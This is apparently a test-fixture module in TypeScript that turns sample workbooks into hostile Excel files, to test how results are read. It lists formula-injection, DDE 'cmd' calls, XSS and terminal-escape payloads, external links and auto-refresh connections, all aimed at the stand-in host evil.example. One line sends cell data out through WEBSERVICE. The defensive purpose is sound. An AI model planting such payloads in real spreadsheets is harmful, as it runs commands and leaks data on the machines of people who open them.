/** The workbooks of the fictional country as somebody would send them who wants to harm whoever opens our results. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import Papa from 'papaparse';
import { samplesFolder } from '../../samples/build.ts';

/** Texts as they stand in a cell; each holds the word by which a test finds it again. */
export const PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/1","evil")',
  "=cmd|' /C calc'!A0 evil",
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '+1+evil()',
  '-1+evil()',
  '@SUM(evil)',
  '\t=evil()',
  '\r=evil()',
  '<script>evil()</script>',
  '<img src="http://evil.example/2" onerror="evil()">',
  '"><a href="http://evil.example/3" onclick=\'evil()\'>evil</a>',
  '</td></table><iframe src="http://evil.example/4"></iframe>',
  '[evil](javascript:evil())',
  'javascript:evil()',
  'file://evil/share/x.xlsx',
  '\u001b]0;evil\u0007\u001b[2J',
  '\u009b31mevil',
  '\u202eevil\u202c',
  '\u2066evil\u2028',
  '<!--evil--><style>@import "http://evil.example/5"</style>',
  '{file} {evil} $& $1 &lt;evil&gt;',
];

/** Spreadsheets write characters that XML cannot hold as `_x001B_`. */
const inXml = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replace(
      /[\u0000-\u0008\u000b-\u001f]/g,
      (each) => `_x${each.charCodeAt(0).toString(16).padStart(4, '0')}_`,
    );

/** Names a file can have under POSIX systems. */
export const HOSTILE_NAMES = [
  '=cmd|evil!A0.xlsx',
  '<img src=x onerror=evil()>.xlsx',
  '\u001b[2J\u202eevil\u009b.xlsx',
] as const;

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;
const relations = (list: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list}</Relationships>`;

/** Parts that reach out of the workbook. */
const PARTS: Readonly<Record<string, string>> = {
  'xl/externalLinks/externalLink1.xml': `<externalLink xmlns:r="${OFFICE}"><externalBook r:id="rId1"/></externalLink>`,
  'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
    relation('rId1', 'externalLinkPath', 'file:///evil/x.xlsx'),
  ),
  'xl/externalLinks/externalLink2.xml':
    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc evil"/></externalLink>',
  'xl/connections.xml':
    '<connections><connection id="1" name="evil" type="4" refreshOnLoad="1"><webPr url="http://evil.example/6"/></connection></connections>',
  'xl/queryTables/queryTable1.xml': '<queryTable name="evil" connectionId="1" refreshOnLoad="1"/>',
  'xl/vbaProject.bin': 'evil macro',
  'xl/macrosheets/sheet1.xml': '<macrosheet>evil</macrosheet>',
  'xl/embeddings/oleObject1.bin': 'evil object',
  'customUI/customUI.xml': '<customUI onLoad="evil"/>',
  'xl/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"/>',
  'xl/drawings/drawing9.xml': '<drawing>evil</drawing>',
  'xl/drawings/_rels/drawing9.xml.rels': relations(relation('rId1', 'image', 'http://evil.example/7.png')),
};

const SHEET_RELATIONS = relations(
  relation('rIdEvil1', 'hyperlink', 'http://evil.example/8') +
    relation('rIdEvil2', 'hyperlink', 'file://evil/share') +
    relation('rIdEvil3', 'hyperlink', 'javascript:evil()'),
);
const SHEET_LINKS =
  '<hyperlinks><hyperlink ref="A4" r:id="rIdEvil1" tooltip="evil"/><hyperlink ref="B4" r:id="rIdEvil2"/><hyperlink ref="C4" r:id="rIdEvil3"/></hyperlinks>';
const NAMES =
  '<definedName name="evil">\'file:///evil/[x.xlsx]S\'!$A$1</definedName><definedName name="Auto_Open" hidden="1">evil!$A$1</definedName>';

/** Free texts of the sample's data, in order: each gets a payload. */
function freeTexts(): readonly string[] {
  const folder = join(samplesFolder(), 'xts', 'data');
  const cells = readdirSync(folder)
    .sort()
    .flatMap((name) =>
      Papa.parse<string[]>(readFileSync(join(folder, name), 'utf8'))
        .data.slice(1)
        .flat(),
    );
  return [...new Set(cells.filter((text) => / \p{L}/u.test(text)))];
}

/** Texts for cells, in turn. */
type Payload = () => string;

const workbookPart = (xml: string): string =>
  xml
    .replace('</definedNames>', `${NAMES}</definedNames>`)
    .replace('name="About"', 'name="&lt;script&gt;evil"')
    .replace(
      '</sheets>',
      '</sheets><externalReferences><externalReference r:id="rIdEvil"/></externalReferences>',
    );

/** Free texts of the data become payloads. */
function stringsPart(xml: string, payload: Payload): string {
  const payloads = new Map(freeTexts().map((text) => [inXml(text), payload()]));
  return xml.replace(/<t(?: [^>]*)?>([^<]*)<\/t>/g, (whole, text: string) => {
    const found = payloads.get(text.replaceAll('&apos;', "'"));
    return found === undefined ? whole : `<t xml:space="preserve">${found}</t>`;
  });
}

/** Cells of the first rows of data become what they should not be. */
function dataPart(xml: string, payload: Payload): string {
  const inline = (cell: string): string =>
    `${cell} t="inlineStr"><is><t xml:space="preserve">${payload()}</t></is></c>`;
  const inRow = (
    sheet: string,
    row: number,
    cell: RegExp,
    change: (...found: readonly string[]) => string,
  ): string =>
    sheet.replace(new RegExp(`<row r="${String(row)}".*?</row>`, 's'), (whole) =>
      whole.replace(cell, (...found: readonly string[]) => change(...found)),
    );
  // formulas that call programs, with what they gave when the file was saved: a figure, and in row 5 a text
  const called = inRow(
    xml,
    3,
    /(<c r="[A-Z]+3"(?: s="\d+")?>)(<v>[^<]*<\/v><\/c>)/,
    (_, cell = '', value = '') => `${cell}<f>cmd|'/C calc'!A0+evil</f>${value}`,
  );
  const linked = inRow(
    called,
    5,
    /(<c r="[A-Z]+5"(?: s="\d+")?) t="s"><v>\d+<\/v><\/c>(<\/row>)/,
    (_, cell = '', end = '') =>
      `${cell} t="str"><f>HYPERLINK("http://evil.example/9")</f><v>${payload()}</v></c>${end}`,
  );
  // the last figure that is a text
  const figure = inRow(
    linked,
    4,
    /^(.*)(<c r="[A-Z]+4"(?: s="\d+")?)><v>[^<]*<\/v><\/c>/s,
    (_, before = '', cell = '') => before + inline(cell),
  );
  // a code that is none
  return inRow(figure, 6, /(<c r="[A-Z]+6"(?: s="\d+")?) t="s"><v>\d+<\/v><\/c>/, (_, cell = '') =>
    inline(cell),
  );
}

/**
 * The same workbook, with hostile content of every kind. The numbers stay, but for those that become texts. With
 * another `shift`, other payloads stand in the same places.
 */
export function hostile(workbook: Uint8Array, shift = 0): Uint8Array {
  const unzipped = unzipSync(workbook);
  // the plan stays whole, so that its titles reach every sheet of the results
  const isPlan = strFromU8(unzipped['xl/workbook.xml'] ?? new Uint8Array()).includes('"PLN_GOALS"');
  let next = shift;
  const payload: Payload = () => inXml(PAYLOADS[next++ % PAYLOADS.length] ?? '');
  const change = (name: string, xml: string): string => {
    if (name === 'xl/sharedStrings.xml') return stringsPart(xml, payload);
    if (name === 'xl/workbook.xml') return workbookPart(xml);
    if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) return xml;
    const linked = xml.replace(/<pageMargins/, `${SHEET_LINKS}<pageMargins`);
    return isPlan ? linked : dataPart(linked, payload);
  };
  const parts = Object.entries(unzipped).map(([name, bytes]): [string, Uint8Array] => [
    name,
    name.endsWith('.xml') ? strToU8(change(name, strFromU8(bytes))) : bytes,
  ]);
  return zipSync({
    ...Object.fromEntries(parts),
    ...Object.fromEntries(Object.entries(PARTS).map(([name, text]) => [name, strToU8(text)])),
    'xl/worksheets/_rels/sheet3.xml.rels': strToU8(SHEET_RELATIONS),
  });
}
